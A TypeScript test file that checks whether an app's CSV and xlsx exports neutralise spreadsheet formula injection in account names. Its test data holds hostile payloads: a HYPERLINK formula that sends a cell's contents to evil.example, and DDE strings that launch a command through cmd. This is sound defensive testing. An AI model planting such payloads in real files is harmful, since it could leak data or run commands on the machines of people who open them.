import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { seedDemo } from "@tenure/services";
import { openStorage, type Storage } from "@tenure/storage";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../../src/app";
import { EXPORT_TABLES } from "../../src/routes/export-columns";

/**
 * Formula injection in exports (issue 16 §7): account names and owners that a spreadsheet would run
 * (=, +, -, @, tab, CR first) are written as text in every table, both as CSV (a leading apostrophe)
 * and as xlsx (string cells, never formulas); negative amounts stay numbers.
 */
const WS = "default";
const TODAY = "2026-11-15";
const HOSTILE = [
  "=1+2",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
let dir: string;
let storage: Storage;
let app: ReturnType<typeof createApp>;
let key: string;
let cells = 0;

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), "tenure-formula-"));
  storage = await openStorage({ sqliteFile: path.join(dir, "t.db") });
  await seedDemo(storage, { workspaceId: WS, accounts: 30, seed: 3, asOf: TODAY });
  key = (await storage.apiKeys.create(WS, { name: "admin", kind: "admin" })).key;
  app = createApp({ storage, config: { reportingCurrency: "USD", grossMargin: 1 }, today: () => TODAY });
  // Rename seeded accounts (they have revenue, so they show in every table). Leading tab and CR are
  // trimmed by the import; csv/index.test.ts covers them.
  const accounts = (await storage.accounts.list(WS)).slice(0, HOSTILE.length * 3);
  const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const rows = accounts.map((a, i) => {
    const h = HOSTILE[i % HOSTILE.length] ?? "";
    return `${a.id},${csvCell(h)}`;
  });
  const res = await app.request("/api/import/accounts?allowPartial=false", {
    method: "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": "text/csv" },
    body: `id,name\n${rows.join("\n")}\n`,
  });
  expect(res.status, await res.text()).toBe(200);
}, 300_000);

afterAll(async () => {
  console.log(`formula injection: ${cells} exported cells checked`);
  await storage.close();
  rmSync(dir, { recursive: true, force: true });
});

const get = (url: string) => app.request(url, { headers: { authorization: `Bearer ${key}` } });
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe("formula injection in exports", () => {
  it.each(EXPORT_TABLES)(
    "should write no cell a spreadsheet runs as a formula when %s is exported as CSV",
    async (table) => {
      const res = await get(`/api/export/${table}?format=csv`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toContain("text/csv");
      expect(res.headers.get("content-disposition")).toContain(`.csv"`);
      const text = await res.text();
      const rows = parse(text.replace(/^\uFEFF/, ""), { relax_column_count: false }) as string[][];
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        for (const cell of row) {
          cells++;
          if (/^[=+\-@\t\r\n]/.test(cell))
            expect(PLAIN_NUMBER.test(cell), `${table}: ${JSON.stringify(cell)}`).toBe(true);
        }
      }
      // Neutralised, not dropped: the names are there, as text (the worklist holds some of the accounts).
      const all = rows.flat();
      if (table === "accounts") for (const h of HOSTILE) expect(all, h).toContain(`'${h}`);
      if (table === "worklist") expect(HOSTILE.some((h) => all.includes(`'${h}`))).toBe(true);
      if (table === "movements") {
        // Churn and contraction are negative amounts: numbers, not text with an apostrophe.
        expect(rows.flat().some((c) => /^-\d/.test(c))).toBe(true);
      }
    },
  );

  it.each(EXPORT_TABLES)(
    "should write text as string cells and no formula when %s is exported as xlsx",
    async (table) => {
      const res = await get(`/api/export/${table}`);
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(await res.arrayBuffer());
      const sheet = wb.worksheets[0];
      if (!sheet) throw new Error("no sheet");
      let hostile = 0;
      let negative = 0;
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells++;
          expect(cell.type, `${table} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, `${table} ${cell.address}`).toBeFalsy();
          if (typeof cell.value === "string" && HOSTILE.includes(cell.value)) {
            hostile++;
            expect(cell.type).toBe(ExcelJS.ValueType.String);
          }
          if (typeof cell.value === "number" && cell.value < 0) negative++;
        }),
      );
      if (table === "accounts" || table === "worklist") expect(hostile, table).toBeGreaterThan(0);
      if (table === "movements") expect(negative, table).toBeGreaterThan(0);
    },
  );
});
